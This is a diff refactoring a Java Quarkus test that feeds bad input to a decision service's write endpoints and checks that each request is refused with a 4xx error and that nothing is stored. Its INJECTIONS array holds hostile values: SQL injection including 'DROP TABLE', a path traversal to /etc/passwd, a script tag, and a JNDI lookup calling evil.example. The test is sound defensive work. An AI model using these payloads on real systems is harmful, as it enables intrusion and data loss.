@@ -1,7 +1,7 @@
 package io.entente.decision;
 
-import io.entente.platform.testing.BadInput;
 import io.entente.platform.testing.BadInput.Case;
+import io.entente.platform.testing.BadInputSweep;
 import io.entente.platform.testing.TestTokens;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.response.Response;
@@ -9,36 +9,27 @@ import jakarta.inject.Inject;
 import jakarta.persistence.EntityManager;
 import org.eclipse.microprofile.config.inject.ConfigProperty;
 import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.MethodSource;
 
 import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.stream.Stream;
 
-import static io.entente.platform.testing.BadInput.abbreviate;
 import static io.entente.platform.testing.BadInput.common;
 import static io.entente.platform.testing.BadInput.field;
 import static io.entente.platform.testing.BadInput.str;
-import static io.entente.platform.testing.BadInput.with;
+import static io.entente.platform.testing.BadInput.strs;
 import static io.restassured.RestAssured.given;
-import static org.junit.jupiter.api.Assertions.assertEquals;
-import static org.junit.jupiter.api.Assertions.assertTrue;
 
-/**
- * Bad input against every write of the decision service: each answer is a 4xx problem+json, never a 5xx, and
- * nothing is stored (rows, audit). The valid body of each endpoint is broken one way at a time.
- */
+/** Bad input against every write of the decision service; see {@link BadInputSweep}. */
 @QuarkusTest
-class BadInputTest {
+class BadInputTest extends BadInputSweep {
 
     static final String ALLIANCE = "D-BAD";
     static final String USER = "bad-input";
     static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
-    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "D-BAD; DROP TABLE decision; --", "../../etc/passwd",
-            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "D-BAD\u0000"};
-
+    static final String[] INJECTIONS = strs("ONC-HELIX' OR '1'='1", "D-BAD; DROP TABLE decision; --",
+            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "D-BAD\u0000");
 
     static final String DECISION = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14);
     static final String UPDATE = DecisionFixtures.body(ALLIANCE, "Dose for phase 3", LocalDate.of(2027, 3, 1), 14,
@@ -63,23 +54,20 @@ class BadInputTest {
         }
     }
 
-
-
-
-
-
-    static List<String> injections() {
-        return Stream.of(INJECTIONS).map(BadInput::str).toList();
+    @Override
+    protected String token() {
+        return TOKEN;
     }
 
-    static Stream<Case> cases() {
+    @Override
+    protected List<Case> cases() {
         List<Case> all = new ArrayList<>();
         String decisions = "/api/decisions";
         all.addAll(common("POST", decisions, DECISION, "title"));
         all.addAll(field("POST", decisions, DECISION, "title", null, "\"\"", str("t".repeat(201))));
         all.addAll(field("POST", decisions, DECISION, "question", null, str("q".repeat(2001))));
         all.addAll(field("POST", decisions, DECISION, "allianceId", null, "\"d-bad\"", "\"NOT-MINE\"", "[]"));
-        all.addAll(field("POST", decisions, DECISION, "allianceId", injections().toArray(String[]::new)));
+        all.addAll(field("POST", decisions, DECISION, "allianceId", INJECTIONS));
         all.addAll(field("POST", decisions, DECISION, "governanceBody", null, "\"POLITBURO\"", "3"));
         all.addAll(field("POST", decisions, DECISION, "dueDate", null, "\"2027-02-29\"", "\"2027-03-01T10:00Z\"",
                 "\"01/03/2027\"", "\"2027-03-01[Europe/Nowhere]\"", "\"+999999999-12-31\"", "20270301"));
@@ -116,26 +104,25 @@ class BadInputTest {
                 "[{\"body\":\"JSC\",\"days\":1},{\"body\":\"JDC\",\"days\":1},{\"body\":\"JCC\",\"days\":1},"
                         + "{\"body\":\"FINANCE\",\"days\":1},{\"body\":\"EXECUTIVE_SPONSORS\",\"days\":1},"
                         + "{\"body\":\"JSC\",\"days\":1}]"));
-        return all.stream();
+        return all;
     }
 
-    long[] counts() {
-        return new long[]{
-                count("select count(*) from decision"),
-                count("select count(*) from prep_item"),
-                count("select count(*) from calendar_feed"),
-                count("select count(*) from audit_log where actor = '" + USER + "'"),
-                count("select coalesce(sum(version), 0) from decision where alliance_id = '" + ALLIANCE + "'")};
+    @Override
+    protected List<Long> stored() {
+        return Stream.of("select count(*) from decision",
+                "select count(*) from prep_item",
+                "select count(*) from calendar_feed",
+                "select count(*) from audit_log where actor = '" + USER + "'",
+                "select coalesce(sum(version), 0) from decision where alliance_id = '" + ALLIANCE + "'")
+                .map(this::count).toList();
     }
 
     long count(String sql) {
         return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
     }
 
-    @ParameterizedTest(name = "{0}")
-    @MethodSource("cases")
-    void refusedWith4xxProblemAndNothingStored(Case c) {
-        long[] before = counts();
+    @Override
+    protected Response send(Case c) {
         String path = c.path().replace("{id}", decisionId);
         var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
         String etag = given().auth().oauth2(TOKEN).get(path.startsWith("/api/decisions")
@@ -143,27 +130,12 @@ class BadInputTest {
         if (etag != null) {
             request = request.header("If-Match", etag);
         }
-        Response r = request.request(c.method(), path);
-        String text = r.asString();
-        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
-                c + " answered " + r.statusCode() + ": " + abbreviate(text));
-        assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
-                c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(text));
-        assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
-        assertTrue(!text.contains("Exception") && !text.contains("org.hibernate"), "no internals: " + text);
-        assertEquals(java.util.Arrays.toString(before), java.util.Arrays.toString(counts()), c + ": nothing stored");
+        return request.request(c.method(), path);
     }
 
-    static Stream<String> badQueries() {
-        return Stream.of("limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password", "status=PARTY",
-                "dueFrom=2027-02-30", "dueTo=tomorrow", "body=POLITBURO", "risk=HIGHISH");
-    }
-
-    @ParameterizedTest(name = "GET /api/decisions?{0}")
-    @MethodSource("badQueries")
-    void badQueriesAre4xx(String query) {
-        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/decisions?" + query);
-        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, query + " answered " + r.statusCode());
-        assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
+    @Override
+    protected List<String> badQueries() {
+        return queries("/api/decisions", "limit=0", "limit=201", "limit=abc", "after=garbage", "sort=password",
+                "status=PARTY", "dueFrom=2027-02-30", "dueTo=tomorrow", "body=POLITBURO", "risk=HIGHISH");
     }
 }
